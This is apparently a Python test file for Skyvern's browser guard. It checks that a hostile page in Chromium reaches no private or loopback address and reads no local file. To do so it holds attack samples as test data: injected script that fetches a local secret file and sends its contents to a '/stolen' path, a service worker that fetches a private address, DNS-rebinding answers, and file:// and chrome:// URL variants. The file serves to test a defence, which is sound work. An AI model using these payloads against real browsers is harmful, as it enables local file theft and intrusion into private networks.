"""A hostile page in a real Chromium behind the guard: it reaches no private address and reads no local file."""

from __future__ import annotations

import asyncio
import re
import socket
import threading
from collections import deque
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
from contextlib import suppress
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import psutil
import pytest
import pytest_asyncio
from playwright.async_api import Error, Page

from skyvern.browser.host.browser import BrowserOptions, HostedBrowser, Surroundings
from skyvern.browser.host.chromium import find_chromium, user_agent
from skyvern.domain.addresses import AddressRules
from skyvern.net.guard import Resolver
from skyvern.net.policy import ProxyPolicy
from tests.browser.host.attacks import OWN_TAB, PAGES, SHUT_ALREADY
from tests.browser.host.conftest import Site, attached

PERMITTED = "127.7.7.7"
"""The one address of the loopback network that the attacker's names may lead to."""

pytestmark = pytest.mark.asyncio(loop_scope="module")


class Canary:
    """A private service on one port, over IPv4, IPv6 and UDP, that counts everybody who as much as knocks."""

    def __init__(self) -> None:
        self.port = 0
        self.knocks: list[str] = []
        self._closers: list[Callable[[], None]] = []

    async def start(self) -> None:
        first = await asyncio.start_server(self._knocked, "0.0.0.0", 0)
        self.port = first.sockets[0].getsockname()[1]
        self._closers.append(first.close)
        if socket.has_ipv6:
            with suppress(OSError):
                self._closers.append((await asyncio.start_server(self._knocked, "::1", self.port)).close)
        transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
            lambda: Datagrams(self), local_addr=("0.0.0.0", self.port)
        )
        self._closers.append(transport.close)

    def close(self) -> None:
        for close in self._closers:
            close()

    async def _knocked(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        at = writer.get_extra_info("sockname")[0]
        if at != PERMITTED:
            self.knocks.append(f"a connection to {at}")
        writer.close()


class Datagrams(asyncio.DatagramProtocol):
    def __init__(self, canary: Canary) -> None:
        self._canary = canary

    def datagram_received(self, data: bytes, addr: object) -> None:
        self._canary.knocks.append("a datagram")


class Attack:
    """The attacker's site, a canary for each way, and a browser in this process whose names resolve as they like."""

    def __init__(self, folder: Path) -> None:
        self.folder, self.site, self.passes = folder, Site(), 0
        self.canaries = {name: Canary() for name in PAGES}
        self.browser: HostedBrowser | None = None
        self._serving = threading.Thread(target=self.site.serve_forever, kwargs={"poll_interval": 0.01})

    async def start(self) -> None:
        self._serving.start()
        self.site.pages["/redirect"] = self._redirect
        self.site.pages["/reporting"] = self._reporting
        self.site.pages["/sw.js"] = self._service_worker
        for canary in self.canaries.values():
            await canary.start()
        frames = "".join(
            f"<iframe src=/{canary.port}></iframe>" for name, canary in self.canaries.items() if name not in OWN_TAB
        )
        self.site.html("/all", f"<!doctype html><title>attack</title><body>{frames}")
        self.browser = await open_browser(self.folder, AddressRules(), resolve=resolver())

    async def stop(self) -> None:
        if self.browser:
            await self.browser.close()
        for canary in self.canaries.values():
            canary.close()
        self.site.shutdown()
        self._serving.join()
        self.site.server_close()

    @property
    def cdp_url(self) -> str:
        assert self.browser is not None
        return self.browser.info().cdp_url

    def open_to(self, networks: str) -> None:
        """Let the browser reach these private networks and no others."""
        assert self.browser is not None
        self.browser.proxy.policy = ProxyPolicy(rules=AddressRules.parse(networks))
        self.browser.proxy.traffic.refusals = deque()

    async def run(self, networks: str) -> dict[str, list[str]]:
        """Open every page with these networks listed; who knocked at each canary."""
        self.open_to(networks)
        self.passes += 1
        for name, canary in self.canaries.items():
            canary.knocks.clear()
            place = f"127.0.0.1:{canary.port}/{self.passes}"
            body = PAGES[name].format(u=f"http://{place}", w=f"ws://{place}", p=canary.port)
            self.site.html(f"/{canary.port}", f"<!doctype html><meta charset=utf-8><title>{name}</title><body>{body}")
        told = {canary.port for name, canary in self.canaries.items() if name not in SHUT_ALREADY}
        async with attached(self.cdp_url) as playwright:
            context = playwright.contexts[0]
            for name in OWN_TAB:
                page = await context.new_page()
                await page.goto(f"{self.site.url}/{self.canaries[name].port}", wait_until="load")
            await context.pages[0].bring_to_front()  # in the background Chromium may put frames off
            await context.pages[0].goto(f"{self.site.url}/all", wait_until="commit")
            with suppress(TimeoutError):
                async with asyncio.timeout(30):
                    while not told <= {c.port for c in self.canaries.values() if c.knocks} | self.refusals():
                        await asyncio.sleep(0.05)
            await asyncio.sleep(0.5)  # nothing to wait for: those that are late have this long
            for page in context.pages[1:]:
                await page.close()
            await context.pages[0].goto("about:blank")
        return {name: list(canary.knocks) for name, canary in self.canaries.items()}

    def refusals(self) -> set[int]:
        """The canaries' ports that the guard kept shut."""
        assert self.browser is not None
        return {item.port for item in self.browser.proxy.traffic.refusals if item.kind == "address-refused"}

    def _redirect(self, visitor: BaseHTTPRequestHandler) -> None:
        status, _, to = visitor.path.partition("?")[2].partition(",")
        _answer(visitor, int(status), {"Location": to}, b"")

    def _reporting(self, visitor: BaseHTTPRequestHandler) -> None:
        policy = f"img-src 'none'; report-uri {visitor.path.partition('?')[2]}"
        headers = {"Content-Security-Policy": policy, "Content-Type": "text/html"}
        _answer(visitor, 200, headers, b"<img src='/blocked'>")

    def _service_worker(self, visitor: BaseHTTPRequestHandler) -> None:
        target = f"http://127.0.0.1:{visitor.path.partition('?')[2].partition('&')[0]}/"
        text = f"self.addEventListener('install', e => e.waitUntil(fetch('{target}', {{mode: 'no-cors'}})))"
        _answer(visitor, 200, {"Content-Type": "text/javascript"}, text.encode())


def _answer(visitor: BaseHTTPRequestHandler, status: int, headers: dict[str, str], body: bytes) -> None:
    visitor.send_response(status)
    for name, value in {"Content-Length": str(len(body)), **headers}.items():
        visitor.send_header(name, value)
    visitor.end_headers()
    visitor.wfile.write(body)


def resolver() -> Resolver:
    """Names as an attacker's name server answers: in turn a permitted address, a private one, and both."""
    turns = iter(range(10**6))

    async def resolve(host: str, port: int) -> Sequence[str]:
        if host == "rebind.test":
            return [[PERMITTED], ["127.0.0.1"], [PERMITTED, "127.0.0.1"]][next(turns) % 3]
        if host.rstrip(".").endswith("localhost") or host == "name.test":
            return ["::1", "127.0.0.1"]
        if any(letter in host for letter in "ghijklmnopqrstuvwyz"):
            raise OSError("no such name")
        return [host]

    return resolve


async def open_browser(folder: Path, rules: AddressRules, *, resolve: Resolver) -> HostedBrowser:
    """A guarded browser in this process."""
    binary = find_chromium()
    opened: list[HostedBrowser] = []
    around = Surroundings(
        binary=binary,
        agent=await user_agent(binary),
        publish=lambda event, details: None,
        control_ports=lambda: frozenset().union(*(browser.control_ports for browser in opened)),
        resolve=resolve,
    )
    browser = HostedBrowser("attacked", folder / "attacked", around, BrowserOptions(policy=ProxyPolicy(rules=rules)))
    opened.append(browser)
    await browser.open()
    return browser


@dataclass(frozen=True, slots=True, kw_only=True)
class Findings:
    """Who knocked at each canary while it was open and while it was shut, and which were refused by the guard."""

    open: dict[str, list[str]]
    shut: dict[str, list[str]]
    refused: frozenset[str]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def attack(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Attack]:
    """One browser for every test that does not end it."""
    made = Attack(tmp_path_factory.mktemp("attack"))
    try:
        await made.start()
        yield made
    finally:
        await made.stop()


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file of this machine."""
    place = tmp_path / "secret.html"
    place.write_text("<title>the-secret</title>")
    return place


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def findings(attack: Attack) -> Findings:
    """Every way tried twice: with the canaries' addresses shut, and open."""
    shut = await attack.run(f"{attack.site.network},{PERMITTED}/32")
    refused = frozenset(name for name, canary in attack.canaries.items() if canary.port in attack.refusals())
    return Findings(open=await attack.run("0.0.0.0/0,::/0"), shut=shut, refused=refused)


@pytest.mark.long
@pytest.mark.parametrize("way", PAGES)
async def test_a_page_reaches_nothing_private(way: str, findings: Findings) -> None:
    """The same page that reaches an open address must reach nothing when it is shut, and be refused by the guard."""
    assert findings.shut[way] == []
    if way not in SHUT_ALREADY:
        assert findings.open[way], "this way reaches nobody even where it may: the page is no attack"
        assert way in findings.refused


@pytest_asyncio.fixture(loop_scope="module")
async def open_guarded(tmp_path: Path) -> AsyncIterator[Callable[[str], Awaitable[HostedBrowser]]]:
    """Opens a browser of the test's own."""
    opened: list[HostedBrowser] = []

    async def start(networks: str) -> HostedBrowser:
        opened.append(await open_browser(tmp_path, AddressRules.parse(networks), resolve=resolver()))
        return opened[-1]

    yield start
    for browser in opened:
        await browser.close()


@pytest.mark.parametrize(
    "form",
    [
        "file://{secret}",
        "FILE://{secret}",
        "file://localhost{secret}",
        "view-source:file://{secret}",
        "view-source:chrome://version",
        "chrome://version",
        "chrome://net-export/",
        "devtools://devtools/bundled/inspector.html",
    ],
)
async def test_a_driver_opens_nothing_of_the_machine(attack: Attack, secret: Path, form: str) -> None:
    async with attached(attack.cdp_url) as playwright:
        page = await playwright.contexts[0].new_page()
        with suppress(Error):
            await page.goto(form.format(secret=secret), timeout=4000)
        await page.wait_for_url(re.compile("^(about:|chrome-error:)"), timeout=10_000)
        assert "the-secret" not in await content(page)
        await page.close()


async def content(page: Page) -> str:
    """The page's document, as soon as an error page has taken the place of the one that was refused."""
    async with asyncio.timeout(10):
        while True:
            try:
                return await page.content()
            except Error:
                await asyncio.sleep(0.05)


async def test_no_local_file_opens_in_a_page_born_with_it(attack: Attack, secret: Path) -> None:
    async with attached(attack.cdp_url) as playwright:
        session = await playwright.new_browser_cdp_session()
        born = await session.send("Target.createTarget", {"url": f"file://{secret}"})
        async with asyncio.timeout(20):
            while len(playwright.contexts[0].pages) < 2:
                await asyncio.sleep(0.05)
        page = playwright.contexts[0].pages[-1]
        await page.wait_for_url(re.compile("^(about:|chrome-error:)"), timeout=20_000)
        assert "the-secret" not in await content(page)
        info = (await session.send("Target.getTargetInfo", {"targetId": born["targetId"]}))["targetInfo"]
        assert "the-secret" not in info["title"]
        await session.send("Target.closeTarget", {"targetId": born["targetId"]})


async def test_a_page_opens_nothing_of_the_machine(attack: Attack, secret: Path) -> None:
    local = (f"file://{secret}", "chrome://version", "devtools://devtools/bundled/inspector.html")
    frames = "".join(f"<iframe src='{url}'></iframe><img src='{url}'>" for url in local)
    asks = "".join(
        f"fetch('{url}').then(r => r.text()).then(t => fetch('/stolen?' + t)).catch(() => 0); open('{url}');"
        for url in local
    )
    attack.site.html("/curious", f"{frames}<script>{asks}setTimeout(() => document.title = 'done', 500)</script>")
    attack.open_to(attack.site.network)
    async with attached(attack.cdp_url) as playwright:
        page = await playwright.contexts[0].new_page()
        await page.goto(f"{attack.site.url}/curious")
        await page.wait_for_function("document.title == 'done'", polling=100)  # no frames are drawn behind other tabs
        for frame in page.frames[1:]:
            assert frame.url == "" or frame.url.startswith(("about:", "chrome-error:"))
        for tab in playwright.contexts[0].pages[1:]:
            assert not tab.url.startswith(("file:", "chrome:", "devtools:"))
            await tab.close()
    assert "/stolen" not in attack.site.hits


async def test_a_refused_page_says_why(attack: Attack) -> None:
    attack.open_to("")
    async with attached(attack.cdp_url) as playwright:
        page = await playwright.contexts[0].new_page()
        reply = await page.goto(f"http://127.0.0.1:{attack.canaries['img'].port}/refused")
        assert reply is not None
        assert (reply.status, reply.headers["x-skyvern-guard"]) == (403, "address-refused")
        assert "SKYVERN_ALLOWED_PRIVATE_NETWORKS" in await page.inner_text("body")
        await page.close()


async def test_even_listed_the_browsers_own_ports_are_shut(attack: Attack) -> None:
    attack.open_to("127.0.0.0/8")
    assert attack.browser is not None
    async with attached(attack.cdp_url) as playwright:
        page = await playwright.contexts[0].new_page()
        for port in attack.browser.control_ports:
            reply = await page.goto(f"http://127.0.0.1:{port}/json/version")
            assert reply is not None
            assert reply.status == 403
        await page.close()


async def test_a_close_that_is_cut_short_still_ends_chromium(open_guarded) -> None:
    guarded = await open_guarded("")
    leader = psutil.Process(guarded.info().pid)
    await guarded.start_recording()
    closing = asyncio.create_task(guarded.close(keep_files=True))
    await asyncio.sleep(0)
    closing.cancel()
    with suppress(asyncio.CancelledError):
        await closing
    async with asyncio.timeout(10):
        await guarded._wait_ended()
    assert not leader.is_running() or leader.status() == psutil.STATUS_ZOMBIE


async def test_a_browser_without_the_hosts_connection_is_ended(open_guarded) -> None:
    guarded = await open_guarded("")
    await guarded.cdp.close()
    async with asyncio.timeout(10):
        await guarded._wait_ended()
